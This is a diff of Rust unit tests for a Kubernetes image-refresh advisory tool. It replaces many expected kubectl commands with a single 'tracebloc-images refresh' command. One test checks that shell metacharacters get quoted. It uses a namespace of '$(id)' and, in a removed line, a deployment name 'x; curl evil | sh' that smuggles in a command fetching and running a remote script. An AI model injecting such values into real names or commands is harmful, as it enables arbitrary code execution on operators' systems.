@@ -6,10 +6,9 @@ use crate::release::Run;
 
 const INGESTOR: ManagedImage = ManagedImage::Ingestor;
 const JOBS: ManagedImage = ManagedImage::JobsManager;
-const ALL: &[Subcommand] = &[Subcommand::Doctor, Subcommand::Refresh];
 
-fn typed(site: &Site, available: &[Subcommand]) -> Vec<String> {
-    let assessed = assess_with(&site.0, available);
+fn typed(site: &Site) -> Vec<String> {
+    let assessed = assess(&site.0);
     commands(&assessed).into_iter().map(str::to_owned).collect()
 }
 
@@ -22,35 +21,8 @@ fn a_healthy_release_needs_nothing() {
         Site::g10(),
         Site::without_refresher(),
     ] {
-        assert_eq!(Vec::<String>::new(), typed(&site, &[]));
-        assert_eq!(Vec::<String>::new(), typed(&site, ALL));
+        assert_eq!(Vec::<String>::new(), typed(&site));
     }
-}
-
-#[test]
-fn what_the_refresher_will_move_is_left_to_it() {
-    let mut site = Site::g10();
-    behind(&mut site, JOBS);
-    assert_eq!(
-        vec![
-            "kubectl create job -n tracebloc --from=cronjob/berlin-image-refresh berlin-image-refresh-1780740002"
-        ],
-        typed(&site, &[])
-    );
-    assert_eq!(
-        "run the refresher now instead of in 6m58s",
-        assess_with(&site.0, &[]).next[0].why
-    );
-    assert_eq!(
-        vec!["kubectl tracebloc-images refresh jobs-manager -n tracebloc"],
-        typed(&site, ALL)
-    );
-    site.cron_job().active = vec!["berlin-image-refresh-29678992".to_owned()];
-    assert_eq!(
-        Vec::<String>::new(),
-        typed(&site, &[]),
-        "it is looking already"
-    );
 }
 
 /// A chart upgrade has put the tag back.
@@ -62,38 +34,16 @@ fn upgraded(site: &mut Site, image: ManagedImage) {
 }
 
 #[test]
-fn a_tick_that_can_only_fail_or_skip_is_not_advised() {
-    let mut site = Site::g2().stuck_ingestor();
-    site.annotate(Streak::Failures.key(), "2");
-    let latest = digest("d361fa778554");
-    assert_eq!(
-        vec![format!(
-            "kubectl set env -n tracebloc deploy/berlin-jobs-manager -c api INGESTOR_IMAGE_DIGEST={latest}"
-        )],
-        typed(&site, &[]),
-        "the pods cannot resolve it"
-    );
-    let mut site = Site::g10();
-    behind(&mut site, JOBS);
-    site.workload(JOBS).rollout = Rollout::InFlight("waiting".to_owned());
-    assert_eq!(
-        Vec::<String>::new(),
-        typed(&site, &[]),
-        "it moves once the rollout has ended"
-    );
-}
-
-#[test]
 fn who_may_not_see_the_nodes_is_told_what_the_latest_is_built_for() {
     let mut site = Site::g2().stuck_ingestor();
     site.annotate(Streak::Failures.key(), "3");
     let why = |site: &Site| {
-        let steps = assess_with(&site.0, &[]).next.into_iter();
-        let mut moves = steps.filter(|step| step.command.contains("set env"));
+        let steps = assess(&site.0).next.into_iter();
+        let mut moves = steps.filter(|step| step.command.contains(" refresh "));
         moves.next().map(|step| step.why)
     };
     let latest = digest("d361fa778554");
-    let plain = format!("move ingestor to {latest} from here");
+    let plain = format!("move it to {latest} from here");
     assert_eq!(Some(plain.clone()), why(&site));
     site.0.nodes = Err(blind("forbidden"));
     assert_eq!(
@@ -105,45 +55,41 @@ fn who_may_not_see_the_nodes_is_told_what_the_latest_is_built_for() {
 }
 
 #[test]
-fn what_it_will_not_move_is_moved_as_its_generation_would() {
-    let latest = digest("1db49be156bb");
-    let image = format!("docker.io/tracebloc/jobs-manager@{latest}");
+fn what_is_behind_is_moved_by_one_refresh() {
+    let refresh = |images: &str| format!("kubectl tracebloc-images refresh {images} -n tracebloc");
     let rows: Vec<(&str, fn() -> Site, Change, Vec<String>)> = vec![
         ("the refresher believes that it is done, and sets digests", Site::g10, |site| {
             site.know(OLD, BOTH);
             upgraded(site, JOBS);
             site.runs(JOBS, OLD);
-        }, vec![format!("kubectl set image -n tracebloc deploy/berlin-jobs-manager api={image}")]),
+        }, vec![refresh("jobs-manager")]),
         ("and the same in the proxy", Site::g10, |site| {
             site.know(OLD, BOTH);
             upgraded(site, ManagedImage::RequestsProxy);
             site.runs(ManagedImage::RequestsProxy, OLD);
-        }, vec![format!("kubectl set image -n tracebloc deploy/berlin-requests-proxy proxy={image}")]),
+        }, vec!["kubectl tracebloc-images refresh -n tracebloc".to_owned()]),
         ("the DaemonSet has its own namespace", Site::g10, |site| {
             site.know(OLD, BOTH);
             upgraded(site, ManagedImage::ResourceMonitor);
             site.runs(ManagedImage::ResourceMonitor, OLD);
-        }, vec![format!(
-            "kubectl set image -n agents ds/berlin-resource-monitor tracebloc-resource-monitor=docker.io/tracebloc/resource-monitor@{}",
-            digest("c674f7ab98b3")
-        )]),
+        }, vec![refresh("resource-monitor")]),
         ("a restart pulls both", Site::g7, |site| {
             site.know(OLD, BOTH);
             site.runs(JOBS, OLD);
             site.runs(ManagedImage::PodsMonitor, OLD);
-        }, vec!["kubectl rollout restart -n tracebloc deploy/berlin-jobs-manager".to_owned()]),
+        }, vec![refresh("jobs-manager pods-monitor")]),
         ("the environment of the ingestor", Site::g2, |site| {
             behind(site, INGESTOR);
             site.cron_job().run = Run::Suspended;
         }, vec![
-            format!("kubectl set env -n tracebloc deploy/berlin-jobs-manager -c api INGESTOR_IMAGE_DIGEST={}", digest("d361fa778554")),
+            refresh("ingestor"),
             r#"kubectl patch cronjob -n tracebloc berlin-image-refresh -p '{"spec":{"suspend":false}}'"#.to_owned(),
         ]),
         ("nothing is recorded yet", Site::g7, |site| {
             behind(site, JOBS);
             let record = site.0.record.as_mut().expect("a record");
             record.annotations.remove(JOBS.record_key().expect("a key"));
-        }, vec!["kubectl rollout restart -n tracebloc deploy/berlin-jobs-manager".to_owned()]),
+        }, vec![refresh("jobs-manager")]),
         ("what is set already is on its way", Site::g10, |site| {
             site.know(OLD, BOTH);
             site.runs(JOBS, OLD);
@@ -161,7 +107,7 @@ fn what_it_will_not_move_is_moved_as_its_generation_would() {
     for (sentence, site, change, want) in rows {
         let mut site = site();
         change(&mut site);
-        assert_eq!(want, typed(&site, &[]), "{sentence}");
+        assert_eq!(want, typed(&site), "{sentence}");
     }
 }
 
@@ -173,20 +119,14 @@ fn the_most_urgent_stands_first() {
     behind(&mut site, JOBS);
     site.workload(JOBS).pods.as_mut().expect("pods")[0].phase = waiting("CrashLoopBackOff", "");
     site.cron_job().run = Run::Suspended;
-    let latest = digest("1db49be156bb");
     assert_eq!(
         vec![
             "kubectl describe pod -n tracebloc berlin-jobs-manager-x2k8p".to_owned(),
-            format!("kubectl set image -n tracebloc deploy/berlin-jobs-manager api=docker.io/tracebloc/jobs-manager@{latest}"),
-            "kubectl annotate -n tracebloc deploy/berlin-jobs-manager tracebloc.io/refresh-attempt- tracebloc.io/refresh-flap-detected-".to_owned(),
+            "kubectl tracebloc-images refresh --rearm -n tracebloc".to_owned(),
             r#"kubectl patch cronjob -n tracebloc berlin-image-refresh -p '{"spec":{"suspend":false}}'"#.to_owned(),
             "kubectl annotate -n tracebloc deploy/berlin-jobs-manager tracebloc.io/ingestor-refresh-consecutive-failures-".to_owned(),
         ],
-        typed(&site, &[])
-    );
-    assert!(
-        typed(&site, ALL)
-            .contains(&"kubectl tracebloc-images refresh --rearm -n tracebloc".to_owned())
+        typed(&site)
     );
 }
 
@@ -226,13 +166,13 @@ fn each_reason_for_a_job_that_does_not_run_has_its_look() {
     for (sentence, change, want) in rows {
         let mut site = Site::g10();
         change(&mut site);
-        let typed = typed(&site, &[]);
+        let typed = typed(&site);
         assert!(typed.contains(&(*want).to_owned()), "{sentence}: {typed:?}");
     }
 }
 
 #[test]
-fn a_silent_failure_sends_to_the_log_that_tells() {
+fn a_silent_failure_sends_to_the_doctor() {
     let mut site = Site::g1().stuck_ingestor();
     let log = "[image-refresh] checking ghcr.io/tracebloc/ingestor:0.3 (x)\n[image-refresh]   WARN: could not resolve latest digest\n";
     site.0.runs = Ok(vec![complete(
@@ -240,12 +180,8 @@ fn a_silent_failure_sends_to_the_log_that_tells() {
         RunLog::Read(log.to_owned()),
     )]);
     assert_eq!(
-        "kubectl logs -n tracebloc job/berlin-image-refresh-29678992",
-        typed(&site, &[])[0]
-    );
-    assert_eq!(
         "kubectl tracebloc-images doctor -n tracebloc",
-        typed(&site, ALL)[0]
+        typed(&site)[0]
     );
 }
 
@@ -256,10 +192,10 @@ fn names_that_a_shell_would_run_are_quoted() {
     site.0.release.namespace = "$(id)".to_owned();
     site.annotate(Streak::Attempts.key(), "3");
     behind(&mut site, JOBS);
-    let rearm = "kubectl annotate -n '$(id)' deploy/'x; curl evil | sh' tracebloc.io/refresh-attempt- tracebloc.io/refresh-flap-detected-";
+    let rearm = "kubectl tracebloc-images refresh --rearm -n '$(id)'";
     assert!(
-        typed(&site, &[]).contains(&rearm.to_owned()),
+        typed(&site).contains(&rearm.to_owned()),
         "{:?}",
-        typed(&site, &[])
+        typed(&site)
     );
 }
